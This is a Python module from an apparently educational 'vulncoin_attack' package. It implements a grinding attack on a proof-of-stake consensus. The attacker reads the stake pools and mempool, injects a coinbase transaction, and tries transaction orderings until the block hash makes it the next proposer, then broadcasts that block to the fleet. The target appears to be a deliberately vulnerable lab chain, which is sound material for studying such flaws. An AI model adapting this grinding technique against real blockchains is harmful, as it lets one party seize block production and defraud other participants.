import math
from dataclasses import dataclass
from typing import Callable, Iterator, List, MutableSequence, Sequence, Tuple

from loguru import logger

from vulncoin_attack.config import U32_MAX
from vulncoin_attack.utils import node_channel as commands
from vulncoin_attack.utils.errors import DesynchronizationError
from vulncoin_attack.utils.fleet_utils import Fleet
from vulncoin_attack.utils.hash_utils import get_block_hash, parse_hex_prefix
from vulncoin_attack.utils.node_channel import NodeChannel, broadcast, request, request_json
from vulncoin_attack.utils.propagation_utils import now_timestamp


@dataclass
class GrindResult:
    ordering: List[str]
    attempts: int
    successful: bool


def next_permutation(items: MutableSequence) -> bool:
    """
    Rearranges `items` in place into its lexicographic successor.

    Returns False and leaves `items` untouched when it is already the last
    permutation.
    """
    pivot = len(items) - 2
    while pivot >= 0 and items[pivot] >= items[pivot + 1]:
        pivot -= 1
    if pivot < 0:
        return False

    successor = len(items) - 1
    while items[successor] <= items[pivot]:
        successor -= 1
    items[pivot], items[successor] = items[successor], items[pivot]
    items[pivot + 1:] = items[pivot + 1:][::-1]
    return True


def lexicographic_orderings(items: Sequence[str]) -> Iterator[Tuple[str, ...]]:
    """Yields every distinct ordering of `items` once, starting from the sorted order."""
    current = sorted(items)
    yield tuple(current)
    while next_permutation(current):
        yield tuple(current)


def creator_accumulator(old_stakepool: Sequence[dict], pool_size: int) -> int:
    """
    Sums the previous stake pool's address prefixes modulo the current pool size.

    The node accumulates into a 32 bit unsigned integer, so the sum wraps the
    same way here.
    """
    if pool_size <= 0:
        raise ValueError("Stake pool is empty")
    creator = 0
    for entry in old_stakepool:
        creator = (creator + parse_hex_prefix(entry["address"]) % pool_size) & U32_MAX
    return creator


def candidate_index(block_hash: str, pool_size: int) -> int:
    return parse_hex_prefix(block_hash) % pool_size


def selects_target(accumulator: int, block_hash: str, pool_size: int, target_index: int) -> bool:
    # Only the accumulator wraps at 32 bits; the node widens this sum to size_t.
    return (accumulator + candidate_index(block_hash, pool_size)) % pool_size == target_index


def search_ordering(last_block_hash: str, txids: Sequence[str], accumulator: int, pool_size: int,
                    target_index: int) -> GrindResult:
    """
    Tries orderings of `txids` until the resulting block hash selects `target_index`.

    Visits at most len(txids)! orderings in lexicographic order. When none
    matches, the last ordering tried is returned with successful=False.
    """
    attempts = 0
    ordering: Tuple[str, ...] = tuple(txids)
    for ordering in lexicographic_orderings(txids):
        logger.debug(f"Attacker is trying permutation [{attempts}].")
        attempts += 1
        block_hash = get_block_hash(last_block_hash, ordering)
        if selects_target(accumulator, block_hash, pool_size, target_index):
            return GrindResult(list(ordering), attempts, True)
    return GrindResult(list(ordering), attempts, False)


def grind(fleet: Fleet, channel: NodeChannel, now: Callable[[], str] = now_timestamp) -> GrindResult:
    """
    Proposes the attacker's block in an order that makes the attacker the next proposer.

    Reads the stake pools, the chain and the mempool from node 0, registers a
    fresh coinbase transaction for the attacker on every node, grinds through
    orderings of the coinbase plus mempool transactions and broadcasts the
    chosen block to the whole fleet.

    Args:
        fleet: Running fleet; position 0 is the attacker and was selected as proposer.
        channel: Transport used for every command.
        now: Timestamp factory for the coinbase transaction.

    Returns:
        GrindResult: The proposed ordering, how many orderings were tried and
        whether one of them selects the attacker.
    """
    attacker = fleet.attacker
    origin = fleet[0]

    stakepool = request_json(channel, commands.list_stakepool(), origin)
    old_stakepool = request_json(channel, commands.list_old_stakepool(), origin)
    blockchain = request_json(channel, commands.print_blockchain(), origin)
    mempool = request_json(channel, commands.list_mempool(), origin)

    pool_addresses = [entry["address"] for entry in stakepool]
    if attacker.address not in pool_addresses:
        raise DesynchronizationError(f"Attacker {attacker.address} is not in the stake pool")
    target_index = pool_addresses.index(attacker.address)

    last_block = blockchain[-1]
    last_block_hash = get_block_hash(last_block["prevBlockHash"], list(last_block["transactions"]))

    load_command = commands.load_coinbase_transaction(attacker.address, now())
    coinbase_txid = request(channel, load_command, origin).strip()
    broadcast(channel, load_command, fleet.others(0))

    txids = sorted([coinbase_txid] + [entry["txid"] for entry in mempool])
    logger.info(f"Attacker has [{len(txids)}] transactions in their mempool. "
                f"They can grind through {len(txids)}! = {math.factorial(len(txids))} permutations.")

    accumulator = creator_accumulator(old_stakepool, len(stakepool))
    result = search_ordering(last_block_hash, txids, accumulator, len(stakepool), target_index)

    if result.successful:
        logger.success(f"Attacker found good block hash after {result.attempts} permutations -> "
                       f"They are guaranteed to win the next consensus round!")
    else:
        logger.warning(f"Grinding unsuccessful after {result.attempts} permutations!")

    broadcast(channel, commands.propose_block(result.ordering), fleet.nodes)
    return result
